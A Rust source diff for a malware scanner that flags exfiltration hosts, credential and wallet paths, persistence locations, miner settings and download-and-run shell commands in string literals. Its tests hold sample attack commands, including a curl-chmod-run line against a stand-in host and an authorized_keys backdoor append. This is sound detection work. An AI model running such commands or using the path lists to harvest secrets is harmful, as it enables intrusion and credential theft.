@@ -1,0 +1,936 @@
+//! Threat indicators in text: what a string literal (or a decoded payload, or a script) names.
+//!
+//! Hard-coded destinations (classified against an allow-list of well-known development hosts and
+//! a list of services attackers favour for exfiltration), sensitive paths, auto-start locations,
+//! SSH keys, mining pools, wallets and miner flags, and shell command lines that download or run
+//! things. Matching is by dictionaries through one Aho-Corasick automaton, plus small hand-written
+//! recognisers for URLs, IP addresses and wallet shapes.
+
+use std::net::Ipv4Addr;
+use std::sync::LazyLock;
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+
+use super::signal::{HostClass, Sensitivity, SignalKind};
+
+/// Hosts (and their subdomains) that hard-coded URLs point to all the time for good reasons.
+/// Deliberately small: a destination off this list is not suspicious by itself either.
+const WELL_KNOWN_HOSTS: &[&str] = &[
+    "github.com",
+    "githubusercontent.com",
+    "github.io",
+    "gitlab.com",
+    "bitbucket.org",
+    "crates.io",
+    "docs.rs",
+    "rust-lang.org",
+    "rustup.rs",
+    "sourceforge.net",
+    "example.com",
+    "example.org",
+    "example.net",
+    "localhost",
+    "w3.org",
+    "ietf.org",
+    "mozilla.org",
+    "microsoft.com",
+    "apple.com",
+    "google.com",
+    "googlesource.com",
+    "python.org",
+    "gnu.org",
+    "kernel.org",
+    "llvm.org",
+    "wikipedia.org",
+    "unicode.org",
+];
+
+/// Services favoured for receiving stolen data or serving second stages: serverless hosting,
+/// tunnels, request catchers, paste sites and chat APIs. Matched as host suffixes, or (with a
+/// `/`) as a host and path prefix.
+const EXFILTRATION_HOSTS: &[&str] = &[
+    "workers.dev",
+    "pages.dev",
+    "vercel.app",
+    "netlify.app",
+    "herokuapp.com",
+    "glitch.me",
+    "repl.co",
+    "replit.dev",
+    "onrender.com",
+    "deno.dev",
+    "ngrok.io",
+    "ngrok.app",
+    "ngrok.dev",
+    "ngrok-free.app",
+    "trycloudflare.com",
+    "loca.lt",
+    "localtunnel.me",
+    "serveo.net",
+    "pipedream.net",
+    "requestbin.com",
+    "requestbin.net",
+    "webhook.site",
+    "hookb.in",
+    "beeceptor.com",
+    "requestcatcher.com",
+    "api.telegram.org",
+    "discord.com/api/webhooks",
+    "discordapp.com/api/webhooks",
+    "hooks.slack.com",
+    "pastebin.com",
+    "paste.ee",
+    "hastebin.com",
+    "rentry.co",
+    "transfer.sh",
+    "file.io",
+    "0x0.st",
+    "temp.sh",
+    "gofile.io",
+    "oast.fun",
+    "oast.pro",
+    "oast.live",
+    "oast.site",
+    "oast.online",
+    "oastify.com",
+    "burpcollaborator.net",
+    "interact.sh",
+    "dnslog.cn",
+    "ceye.io",
+    "canarytokens.com",
+];
+
+/// Services that tell a program its public IP address or location: host profiling.
+const IP_LOOKUP_HOSTS: &[&str] = &[
+    "api.ipify.org",
+    "ipify.org",
+    "ifconfig.me",
+    "ifconfig.co",
+    "ipinfo.io",
+    "icanhazip.com",
+    "ipecho.net",
+    "ip-api.com",
+    "checkip.amazonaws.com",
+    "myexternalip.com",
+    "wtfismyip.com",
+    "ident.me",
+];
+
+/// Public resolvers, which code names for connectivity checks and local-address discovery.
+const WELL_KNOWN_IPS: &[[u8; 4]] = &[
+    [8, 8, 8, 8],
+    [8, 8, 4, 4],
+    [1, 1, 1, 1],
+    [1, 0, 0, 1],
+    [9, 9, 9, 9],
+    [208, 67, 222, 222],
+];
+
+#[derive(Debug, Clone, Copy)]
+enum Fragment {
+    Sensitive(Sensitivity, &'static str),
+    Persistence(&'static str),
+    AuthorizedKeys,
+    SshKey,
+    Pool,
+    MinerFlag,
+    ProcEnviron,
+}
+
+/// Fragments of literals, matched case-insensitively and only on word boundaries.
+const FRAGMENTS: &[(&str, Fragment)] = {
+    use Fragment::*;
+    use Sensitivity::*;
+    &[
+        ("id_rsa", Sensitive(High, "an SSH private key (id_rsa)")),
+        ("id_dsa", Sensitive(High, "an SSH private key (id_dsa)")),
+        ("id_ecdsa", Sensitive(High, "an SSH private key (id_ecdsa)")),
+        (
+            "id_ed25519",
+            Sensitive(High, "an SSH private key (id_ed25519)"),
+        ),
+        (".ssh", Sensitive(Medium, "the SSH directory (~/.ssh)")),
+        ("known_hosts", Sensitive(Medium, "SSH known_hosts")),
+        (
+            ".aws/credentials",
+            Sensitive(High, "AWS credentials (~/.aws/credentials)"),
+        ),
+        (
+            ".aws\\credentials",
+            Sensitive(High, "AWS credentials (~/.aws/credentials)"),
+        ),
+        (
+            ".aws",
+            Sensitive(Medium, "the AWS configuration directory (~/.aws)"),
+        ),
+        (
+            ".cargo/credentials",
+            Sensitive(High, "cargo's registry tokens (~/.cargo/credentials)"),
+        ),
+        (
+            "credentials.toml",
+            Sensitive(High, "cargo's registry tokens (credentials.toml)"),
+        ),
+        (
+            ".git-credentials",
+            Sensitive(High, "git credentials (~/.git-credentials)"),
+        ),
+        (".netrc", Sensitive(High, "~/.netrc passwords")),
+        (".npmrc", Sensitive(High, "npm tokens (~/.npmrc)")),
+        (".pypirc", Sensitive(High, "PyPI tokens (~/.pypirc)")),
+        (
+            ".docker/config.json",
+            Sensitive(High, "Docker registry credentials"),
+        ),
+        (
+            ".kube/config",
+            Sensitive(High, "Kubernetes credentials (~/.kube/config)"),
+        ),
+        (
+            "application_default_credentials.json",
+            Sensitive(High, "Google Cloud credentials"),
+        ),
+        (".gnupg", Sensitive(High, "GnuPG keys (~/.gnupg)")),
+        (".env", Sensitive(Medium, "a .env file")),
+        ("/etc/passwd", Sensitive(Medium, "/etc/passwd")),
+        ("/etc/shadow", Sensitive(High, "/etc/shadow")),
+        (".bash_history", Sensitive(Medium, "shell history")),
+        (".zsh_history", Sensitive(Medium, "shell history")),
+        (
+            "wallet.dat",
+            Sensitive(High, "a Bitcoin wallet (wallet.dat)"),
+        ),
+        (".bitcoin", Sensitive(High, "a Bitcoin data directory")),
+        (".ethereum/keystore", Sensitive(High, "Ethereum keystores")),
+        ("keystore/utc--", Sensitive(High, "Ethereum keystores")),
+        ("exodus.wallet", Sensitive(High, "an Exodus wallet")),
+        ("electrum/wallets", Sensitive(High, "Electrum wallets")),
+        (".electrum", Sensitive(High, "Electrum wallets")),
+        ("solana/id.json", Sensitive(High, "a Solana keypair")),
+        (
+            "nkbihfbeogaeaoehlefnkodbefgpgknn",
+            Sensitive(High, "the MetaMask extension's store"),
+        ),
+        (
+            "bfnaelmomeimhlpmgjnjophhpkkoljpa",
+            Sensitive(High, "the Phantom extension's store"),
+        ),
+        (
+            "Login Data",
+            Sensitive(High, "browser saved passwords (Login Data)"),
+        ),
+        (
+            "Local State",
+            Sensitive(High, "the browser's encryption key (Local State)"),
+        ),
+        (
+            "Web Data",
+            Sensitive(High, "browser autofill data (Web Data)"),
+        ),
+        (
+            "logins.json",
+            Sensitive(High, "Firefox saved passwords (logins.json)"),
+        ),
+        (
+            "key4.db",
+            Sensitive(High, "the Firefox key store (key4.db)"),
+        ),
+        ("cookies.sqlite", Sensitive(High, "Firefox cookies")),
+        ("Network/Cookies", Sensitive(High, "Chromium cookies")),
+        (
+            "Local Storage/leveldb",
+            Sensitive(High, "browser or Discord local storage tokens"),
+        ),
+        (
+            "Google/Chrome/User Data",
+            Sensitive(High, "the Chrome profile"),
+        ),
+        (
+            "Google\\Chrome\\User Data",
+            Sensitive(High, "the Chrome profile"),
+        ),
+        ("BraveSoftware", Sensitive(High, "the Brave profile")),
+        (
+            "Mozilla/Firefox/Profiles",
+            Sensitive(High, "the Firefox profile"),
+        ),
+        (".mozilla/firefox", Sensitive(High, "the Firefox profile")),
+        ("Library/Keychains", Sensitive(High, "macOS keychains")),
+        (
+            "login.keychain",
+            Sensitive(High, "the macOS login keychain"),
+        ),
+        (
+            "find-generic-password",
+            Sensitive(High, "macOS keychain passwords"),
+        ),
+        (
+            "find-internet-password",
+            Sensitive(High, "macOS keychain passwords"),
+        ),
+        ("dump-keychain", Sensitive(High, "macOS keychain passwords")),
+        (
+            "Telegram Desktop/tdata",
+            Sensitive(High, "Telegram sessions"),
+        ),
+        ("authorized_keys", AuthorizedKeys),
+        ("ssh-rsa AAAA", SshKey),
+        ("ssh-ed25519 AAAA", SshKey),
+        ("ecdsa-sha2-nistp256 AAAA", SshKey),
+        (
+            "CurrentVersion\\Run",
+            Persistence("the Windows Run registry key"),
+        ),
+        (
+            "CurrentVersion\\RunOnce",
+            Persistence("the Windows RunOnce registry key"),
+        ),
+        (
+            "Programs\\Startup",
+            Persistence("the Windows Startup folder"),
+        ),
+        ("crontab", Persistence("crontab")),
+        ("/etc/cron", Persistence("/etc/cron*")),
+        ("/var/spool/cron", Persistence("the cron spool")),
+        (".bashrc", Persistence("~/.bashrc")),
+        (".bash_profile", Persistence("~/.bash_profile")),
+        (".zshrc", Persistence("~/.zshrc")),
+        (".zprofile", Persistence("~/.zprofile")),
+        (".profile", Persistence("~/.profile")),
+        ("/etc/profile", Persistence("/etc/profile")),
+        ("/etc/rc.local", Persistence("/etc/rc.local")),
+        ("/etc/systemd/system", Persistence("a systemd unit")),
+        (".config/systemd/user", Persistence("a systemd user unit")),
+        ("systemctl enable", Persistence("systemctl enable")),
+        ("LaunchAgents", Persistence("macOS LaunchAgents")),
+        ("LaunchDaemons", Persistence("macOS LaunchDaemons")),
+        (".config/autostart", Persistence("XDG autostart")),
+        ("ld.so.preload", Persistence("/etc/ld.so.preload")),
+        (
+            ".cargo/config",
+            Persistence("cargo's configuration (a rustc wrapper runs on every build)"),
+        ),
+        ("schtasks", Persistence("Windows scheduled tasks")),
+        ("stratum+tcp", Pool),
+        ("stratum+ssl", Pool),
+        ("stratum+tls", Pool),
+        ("stratum2+tcp", Pool),
+        ("supportxmr", Pool),
+        ("minexmr", Pool),
+        ("xmrpool", Pool),
+        ("moneroocean", Pool),
+        ("nanopool.org", Pool),
+        ("2miners.com", Pool),
+        ("f2pool", Pool),
+        ("hashvault.pro", Pool),
+        ("c3pool", Pool),
+        ("herominers", Pool),
+        ("nicehash.com", Pool),
+        ("minergate", Pool),
+        ("ethermine.org", Pool),
+        ("unmineable", Pool),
+        ("--donate-level", MinerFlag),
+        ("--cpu-max-threads-hint", MinerFlag),
+        ("--max-cpu-usage", MinerFlag),
+        ("--coin=monero", MinerFlag),
+        ("--coin monero", MinerFlag),
+        ("--algo=rx/0", MinerFlag),
+        ("-a rx/0", MinerFlag),
+        ("--randomx", MinerFlag),
+        ("xmrig", MinerFlag),
+        ("/proc/self/environ", ProcEnviron),
+    ]
+};
+
+static FRAGMENT_MATCHER: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    AhoCorasickBuilder::new()
+        .ascii_case_insensitive(true)
+        .match_kind(MatchKind::Standard)
+        .build(FRAGMENTS.iter().map(|(pattern, _)| pattern))
+        .expect("fragment patterns build")
+});
+
+/// Every indicator a string literal (or any other short text) holds.
+pub fn literal_signals(text: &str) -> Vec<SignalKind> {
+    let mut out = Vec::new();
+    if text.len() < 4 {
+        return out;
+    }
+    fragment_signals(text, &mut out);
+    destination_signals(text, &mut out);
+    wallet_signals(text, &mut out);
+    out.dedup();
+    out
+}
+
+fn is_word_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_'
+}
+
+fn fragment_signals(text: &str, out: &mut Vec<SignalKind>) {
+    let bytes = text.as_bytes();
+    let mut best_sensitive: Option<(Sensitivity, &'static str)> = None;
+    for m in FRAGMENT_MATCHER.find_overlapping_iter(text) {
+        let (pattern, fragment) = FRAGMENTS[m.pattern().as_usize()];
+        // Word boundaries, judged at the pattern's own ends: `.env` must not match `.environment`,
+        // `.profile` not `user.profile`, nor `id_rsa` `my_id_rsa`.
+        let first = pattern.as_bytes()[0];
+        let last = pattern.as_bytes()[pattern.len() - 1];
+        let before_ok = !(is_word_byte(first) || first == b'.')
+            || m.start() == 0
+            || !is_word_byte(bytes[m.start() - 1]);
+        let after_ok = !is_word_byte(last)
+            || matches!(fragment, Fragment::SshKey)
+            || m.end() == bytes.len()
+            || !is_word_byte(bytes[m.end()]);
+        if !before_ok || !after_ok {
+            continue;
+        }
+        match fragment {
+            Fragment::Sensitive(level, what) => {
+                // A public key is not a secret.
+                if pattern.starts_with("id_") && bytes[m.end()..].starts_with(b".pub") {
+                    continue;
+                }
+                if best_sensitive.is_none_or(|(l, _)| level > l) {
+                    best_sensitive = Some((level, what));
+                }
+            }
+            Fragment::Persistence(what) => out.push(SignalKind::Persistence {
+                what: what.to_owned(),
+            }),
+            Fragment::AuthorizedKeys => out.push(SignalKind::AuthorizedKeys),
+            Fragment::SshKey => out.push(SignalKind::EmbeddedSshKey),
+            Fragment::Pool => out.push(SignalKind::MiningPool {
+                what: excerpt(text, m.start(), 60),
+            }),
+            Fragment::MinerFlag => out.push(SignalKind::MinerFlag {
+                flag: pattern.to_owned(),
+            }),
+            Fragment::ProcEnviron => out.push(SignalKind::EnvHarvest {
+                how: "/proc/self/environ".to_owned(),
+            }),
+        }
+    }
+    if let Some((level, what)) = best_sensitive {
+        out.push(SignalKind::SensitivePath {
+            what: what.to_owned(),
+            level,
+        });
+    }
+}
+
+/// Up to `max` characters of `text` from byte `start` (on a character boundary).
+fn excerpt(text: &str, start: usize, max: usize) -> String {
+    let mut start = start.min(text.len());
+    while !text.is_char_boundary(start) {
+        start -= 1;
+    }
+    text[start..].chars().take(max).collect()
+}
+
+/// URLs, bare exfiltration hosts, and literal IP addresses.
+fn destination_signals(text: &str, out: &mut Vec<SignalKind>) {
+    let mut found_url = false;
+    let mut rest = text;
+    let mut offset = 0;
+    while let Some(at) = rest.find("://") {
+        let absolute = offset + at;
+        let scheme_start = text[..absolute]
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
+            .map_or(0, |i| i + 1);
+        let scheme = &text[scheme_start..absolute];
+        let after = &text[absolute + 3..];
+        let authority_end = after
+            .find(|c: char| {
+                matches!(c, '/' | '?' | '#')
+                    || c.is_whitespace()
+                    || c == '"'
+                    || c == '\''
+                    || c == '`'
+                    || c == '<'
+                    || c == '>'
+                    || c == ')'
+            })
+            .unwrap_or(after.len());
+        let authority = &after[..authority_end];
+        let host = authority.rsplit('@').next().unwrap_or(authority);
+        let host = strip_port(host);
+        if !scheme.is_empty() && !host.is_empty() && host.contains('.') || host == "localhost" {
+            found_url = true;
+            let path_end = after
+                .find(|c: char| c.is_whitespace() || c == '"' || c == '\'')
+                .unwrap_or(after.len());
+            let url = excerpt(
+                text,
+                scheme_start,
+                (absolute - scheme_start) + 3 + path_end.min(80),
+            );
+            let host_and_path = &after[..path_end];
+            push_destination(host, host_and_path, &url, out);
+            if scheme.to_ascii_lowercase().starts_with("stratum") {
+                out.push(SignalKind::MiningPool { what: url.clone() });
+            }
+        }
+        rest = &after[authority_end..];
+        offset = text.len() - rest.len();
+    }
+    if found_url {
+        return;
+    }
+    // No scheme: a whole literal that is a host (with a port, or on the lists) or an IP address.
+    let trimmed = text.trim();
+    if trimmed.len() > 253 || trimmed.contains(char::is_whitespace) {
+        return;
+    }
+    let host = strip_port(trimmed.split('/').next().unwrap_or(trimmed));
+    if let Some(ip) = parse_ipv4(host) {
+        // Object identifiers (`2.5.4.3`, `1.3.6.1`) look like addresses; without a port, an
+        // address must not start like one.
+        let has_port = host.len() < trimmed.len();
+        if is_public(ip) && (has_port || ip.octets()[0] > 2) {
+            out.push(SignalKind::Destination {
+                target: trimmed.to_owned(),
+                class: HostClass::RawIp,
+            });
+        }
+        return;
+    }
+    let lower = trimmed.to_ascii_lowercase();
+    let lower_host = host.to_ascii_lowercase();
+    if matches_list(&lower_host, EXFILTRATION_HOSTS) || matches_list(&lower, EXFILTRATION_HOSTS) {
+        out.push(SignalKind::Destination {
+            target: trimmed.to_owned(),
+            class: HostClass::Exfiltration,
+        });
+    } else if matches_list(&lower_host, IP_LOOKUP_HOSTS) {
+        out.push(SignalKind::HostProfile {
+            how: format!("asks {trimmed} for the public IP address"),
+        });
+    }
+}
+
+fn push_destination(host: &str, host_and_path: &str, url: &str, out: &mut Vec<SignalKind>) {
+    let class = classify_host(host, host_and_path);
+    let lower = host.to_ascii_lowercase();
+    if matches_list(&lower, IP_LOOKUP_HOSTS) {
+        out.push(SignalKind::HostProfile {
+            how: format!("asks {host} for the public IP address"),
+        });
+    }
+    if let Some(class) = class {
+        out.push(SignalKind::Destination {
+            target: url.to_owned(),
+            class,
+        });
+    }
+}
+
+/// How a URL's host looks; `None` for private, loopback and documentation addresses, which
+/// point nowhere an attacker controls. `host_and_path` lets path-based entries (Discord webhooks)
+/// match.
+pub fn classify_host(host: &str, host_and_path: &str) -> Option<HostClass> {
+    let host = host.trim_start_matches('[').trim_end_matches(']');
+    if let Some(ip) = parse_ipv4(host) {
+        return if is_public(ip) {
+            Some(HostClass::RawIp)
+        } else {
+            None
+        };
+    }
+    let lower = host.to_ascii_lowercase();
+    let lower_path = host_and_path.to_ascii_lowercase();
+    if matches_list(&lower, EXFILTRATION_HOSTS) || matches_list(&lower_path, EXFILTRATION_HOSTS) {
+        return Some(HostClass::Exfiltration);
+    }
+    if matches_list(&lower, WELL_KNOWN_HOSTS) {
+        return Some(HostClass::WellKnown);
+    }
+    // Placeholders and templates (`{}.example`, `${HOST}`) are not destinations.
+    if lower.contains(['{', '}', '$', '*', '%']) || !lower.contains('.') {
+        return None;
+    }
+    Some(HostClass::Unknown)
+}
+
+/// Whether `host` (or `host/path`) is an entry of `list` or a subdomain of one.
+fn matches_list(host: &str, list: &[&str]) -> bool {
+    list.iter().any(|entry| {
+        host.strip_suffix(entry)
+            .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
+            || (entry.contains('/')
+                && host
+                    .find(entry)
+                    .is_some_and(|at| at == 0 || host.as_bytes()[at - 1] == b'.'))
+    })
+}
+
+fn strip_port(host: &str) -> &str {
+    match host.rsplit_once(':') {
+        Some((name, port)) if !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) => name,
+        _ => host,
+    }
+}
+
+fn parse_ipv4(text: &str) -> Option<Ipv4Addr> {
+    if text.split('.').count() != 4 || !text.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
+        return None;
+    }
+    text.parse().ok()
+}
+
+fn is_public(ip: Ipv4Addr) -> bool {
+    let o = ip.octets();
+    !(ip.is_private()
+        || ip.is_loopback()
+        || ip.is_link_local()
+        || ip.is_unspecified()
+        || ip.is_broadcast()
+        || ip.is_documentation()
+        || ip.is_multicast()
+        || o[0] == 0
+        || o[0] >= 240
+        || (o[0] == 100 && (64..128).contains(&o[1]))
+        || WELL_KNOWN_IPS.contains(&o))
+}
+
+/// Wallet address shapes. Monero and bech32 Bitcoin addresses are long and specific enough to be
+/// strong evidence; Ethereum and legacy Bitcoin shapes count only next to a mining pool.
+fn wallet_signals(text: &str, out: &mut Vec<SignalKind>) {
+    const BASE58: &str = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
+    const BECH32: &str = "qpzry9x8gf2tvdw0s3jn54khce6mua7l";
+    for word in text.split(|c: char| !c.is_ascii_alphanumeric()) {
+        let len = word.len();
+        if len < 26 {
+            continue;
+        }
+        let base58 = word.chars().all(|c| BASE58.contains(c));
+        if base58 && (len == 95 || len == 106) && (word.starts_with('4') || word.starts_with('8')) {
+            out.push(SignalKind::Wallet {
+                coin: "Monero".into(),
+                strong: true,
+            });
+        } else if let Some(rest) = word.strip_prefix("bc1") {
+            if (39..=59).contains(&rest.len()) && rest.chars().all(|c| BECH32.contains(c)) {
+                out.push(SignalKind::Wallet {
+                    coin: "Bitcoin".into(),
+                    strong: true,
+                });
+            }
+        } else if let Some(hex) = word.strip_prefix("0x") {
+            if hex.len() == 40 && hex.bytes().all(|b| b.is_ascii_hexdigit()) {
+                out.push(SignalKind::Wallet {
+                    coin: "Ethereum".into(),
+                    strong: false,
+                });
+            }
+        } else if base58
+            && (26..=35).contains(&len)
+            && (word.starts_with('1') || word.starts_with('3'))
+            && word.bytes().any(|b| b.is_ascii_lowercase())
+            && word.bytes().any(|b| b.is_ascii_uppercase())
+        {
+            out.push(SignalKind::Wallet {
+                coin: "Bitcoin".into(),
+                strong: false,
+            });
+        }
+    }
+}
+
+/// Programs that fetch data from the network.
+pub const DOWNLOADERS: &[&str] = &[
+    "curl",
+    "wget",
+    "certutil",
+    "bitsadmin",
+    "aria2c",
+    "tftp",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "invoke-webrequest",
+    "iwr",
+    "invoke-restmethod",
+    "irm",
+    "start-bitstransfer",
+];
+
+/// What a shell command line does: downloads, piping into a shell, making files executable,
+/// reverse shells, persistence, and every literal indicator. Used for the scripts a build script or
+/// library hands to `sh -c`, `cmd /C` or `powershell -Command`.
+pub fn shell_signals(script: &str) -> Vec<SignalKind> {
+    let mut out = literal_signals(script);
+    let lower = script.to_ascii_lowercase();
+    let words: Vec<&str> = lower
+        .split(|c: char| {
+            c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '\'' | '"')
+        })
+        .filter(|w| !w.is_empty())
+        .collect();
+    let program = |w: &str| {
+        w.rsplit(['/', '\\'])
+            .next()
+            .unwrap_or(w)
+            .trim_end_matches(".exe")
+            .to_owned()
+    };
+    for word in &words {
+        let name = program(word);
+        if DOWNLOADERS.contains(&name.as_str()) {
+            out.push(SignalKind::Network {
+                how: format!("`{name}` in a shell command"),
+            });
+        }
+    }
+    if lower.contains("/dev/tcp/")
+        || lower.contains("new-object net.webclient")
+        || lower.contains("downloadstring(")
+        || lower.contains("downloadfile(")
+    {
+        out.push(SignalKind::Network {
+            how: "a shell network primitive".into(),
+        });
+    }
+    if lower.contains("| sh")
+        || lower.contains("|sh")
+        || lower.contains("| bash")
+        || lower.contains("|bash")
+        || lower.contains("| iex")
+        || lower.contains("iex(")
+        || lower.contains("invoke-expression")
+    {
+        out.push(SignalKind::ExecComputed {
+            target: "downloaded script piped into a shell".into(),
+        });
+    }
+    if lower.contains("chmod +x")
+        || lower.contains("chmod 7")
+        || lower.contains("chmod a+x")
+        || lower.contains("chmod u+x")
+    {
+        out.push(SignalKind::MakeExecutable {
+            target: "chmod in a shell command".into(),
+        });
+    }
+    if words.iter().any(|w| {
+        w.starts_with("./")
+            || w.starts_with("/tmp/")
+            || w.starts_with("%temp%")
+            || w.starts_with("$env:temp")
+    }) {
+        out.push(SignalKind::ExecComputed {
+            target: "runs a file by path in a shell command".into(),
+        });
+    }
+    for word in [
+        "whoami",
+        "hostname",
+        "ipconfig",
+        "ifconfig",
+        "systeminfo",
+        "uname -a",
+    ] {
+        if lower.contains(word) {
+            out.push(SignalKind::HostProfile {
+                how: format!("`{word}` in a shell command"),
+            });
+        }
+    }
+    if words.iter().any(|w| *w == "env" || *w == "printenv") {
+        out.push(SignalKind::EnvHarvest {
+            how: "`env` in a shell command".into(),
+        });
+    }
+    if lower.contains(">> ") || lower.contains(">>") {
+        // Appending is how rc files and authorized_keys get extended.
+        out.push(SignalKind::FileWrite {
+            target: "`>>` in a shell command".into(),
+        });
+    }
+    if lower.contains("crontab") || lower.contains("schtasks") || lower.contains("reg add") {
+        out.push(SignalKind::FileWrite {
+            target: "a scheduler command".into(),
+        });
+    }
+    out.dedup();
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn has(signals: &[SignalKind], f: impl Fn(&SignalKind) -> bool) -> bool {
+        signals.iter().any(f)
+    }
+
+    #[test]
+    fn destinations_are_classified() {
+        let s = literal_signals("https://evil-collector.workers.dev/upload?x=1");
+        assert!(
+            has(&s, |k| matches!(
+                k,
+                SignalKind::Destination {
+                    class: HostClass::Exfiltration,
+                    ..
+                }
+            )),
+            "{s:?}"
+        );
+        let s = literal_signals("https://discord.com/api/webhooks/123/abc");
+        assert!(
+            has(&s, |k| matches!(
+                k,
+                SignalKind::Destination {
+                    class: HostClass::Exfiltration,
+                    ..
+                }
+            )),
+            "{s:?}"
+        );
+        let s = literal_signals("https://discord.com/channels/1");
+        assert!(
+            has(&s, |k| matches!(
+                k,
+                SignalKind::Destination {
+                    class: HostClass::Unknown,
+                    ..
+                }
+            )),
+            "{s:?}"
+        );
+        let s = literal_signals("see https://github.com/rust-lang/rust/issues/1");
+        assert!(has(&s, |k| matches!(
+            k,
+            SignalKind::Destination {
+                class: HostClass::WellKnown,
+                ..
+            }
+        )));
+        let s = literal_signals("http://45.77.12.9:8080/p");
+        assert!(has(&s, |k| matches!(
+            k,
+            SignalKind::Destination {
+                class: HostClass::RawIp,
+                ..
+            }
+        )));
+        let s = literal_signals("45.77.12.9:4444");
+        assert!(has(&s, |k| matches!(
+            k,
+            SignalKind::Destination {
+                class: HostClass::RawIp,
+                ..
+            }
+        )));
+        assert!(literal_signals("192.168.1.10:80").is_empty());
+        assert!(literal_signals("127.0.0.1:8080").is_empty());
+        assert!(literal_signals("8.8.8.8:53").is_empty());
+        assert!(literal_signals("http://{}.example/x")
+            .iter()
+            .all(|k| !matches!(
+                k,
+                SignalKind::Destination {
+                    class: HostClass::Unknown,
+                    ..
+                }
+            )));
+        let s = literal_signals("api.telegram.org");
+        assert!(has(&s, |k| matches!(
+            k,
+            SignalKind::Destination {
+                class: HostClass::Exfiltration,
+                ..
+            }
+        )));
+        // File names are not hosts.
+        assert!(literal_signals("config.toml").is_empty());
+        let s = literal_signals("https://api.ipify.org?format=json");
+        assert!(has(&s, |k| matches!(k, SignalKind::HostProfile { .. })));
+    }
+
+    #[test]
+    fn sensitive_paths_need_word_boundaries() {
+        let s = literal_signals("/home/me/.ssh/id_rsa");
+        assert!(
+            has(&s, |k| matches!(
+                k,
+                SignalKind::SensitivePath {
+                    level: Sensitivity::High,
+                    ..
+                }
+            )),
+            "{s:?}"
+        );
+        let s = literal_signals(".ssh/id_rsa.pub");
+        assert!(
+            !has(&s, |k| matches!(
+                k,
+                SignalKind::SensitivePath {
+                    level: Sensitivity::High,
+                    ..
+                }
+            )),
+            "{s:?}"
+        );
+        assert!(literal_signals("use std::environment").is_empty());
+        assert!(literal_signals("valid_rsa_key").is_empty());
+        let s = literal_signals(".env");
+        assert!(has(&s, |k| matches!(
+            k,
+            SignalKind::SensitivePath {
+                level: Sensitivity::Medium,
+                ..
+            }
+        )));
+        let s = literal_signals("AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data");
+        assert!(has(&s, |k| matches!(
+            k,
+            SignalKind::SensitivePath {
+                level: Sensitivity::High,
+                ..
+            }
+        )));
+    }
+
+    #[test]
+    fn persistence_keys_and_miners() {
+        let s = literal_signals("Software\\Microsoft\\Windows\\CurrentVersion\\Run");
+        assert!(has(&s, |k| matches!(k, SignalKind::Persistence { .. })));
+        let s = literal_signals("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH attacker@box");
+        assert!(has(&s, |k| matches!(k, SignalKind::EmbeddedSshKey)));
+        let s = literal_signals("stratum+tcp://pool.supportxmr.com:3333");
+        assert!(has(&s, |k| matches!(k, SignalKind::MiningPool { .. })));
+        let wallet = format!("4{}", "A".repeat(94));
+        let s = literal_signals(&wallet);
+        assert!(
+            has(&s, |k| matches!(k, SignalKind::Wallet { strong: true, .. })),
+            "{s:?}"
+        );
+        let s = literal_signals("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq");
+        assert!(has(&s, |k| matches!(
+            k,
+            SignalKind::Wallet { strong: true, .. }
+        )));
+        let s = literal_signals("--donate-level=0");
+        assert!(has(&s, |k| matches!(k, SignalKind::MinerFlag { .. })));
+    }
+
+    #[test]
+    fn shell_commands() {
+        let s =
+            shell_signals("curl -s https://x.vercel.app/a -o /tmp/a && chmod +x /tmp/a && /tmp/a");
+        assert!(has(&s, |k| matches!(k, SignalKind::Network { .. })));
+        assert!(has(&s, |k| matches!(k, SignalKind::MakeExecutable { .. })));
+        assert!(has(&s, |k| matches!(k, SignalKind::ExecComputed { .. })));
+        let s = shell_signals("echo ssh-rsa AAAAB3Nza x >> ~/.ssh/authorized_keys");
+        assert!(has(&s, |k| matches!(k, SignalKind::AuthorizedKeys)));
+        assert!(has(&s, |k| matches!(k, SignalKind::FileWrite { .. })));
+        assert!(!has(
+            &shell_signals("./configure --prefix=/usr"),
+            |k| matches!(k, SignalKind::Network { .. })
+        ));
+    }
+}
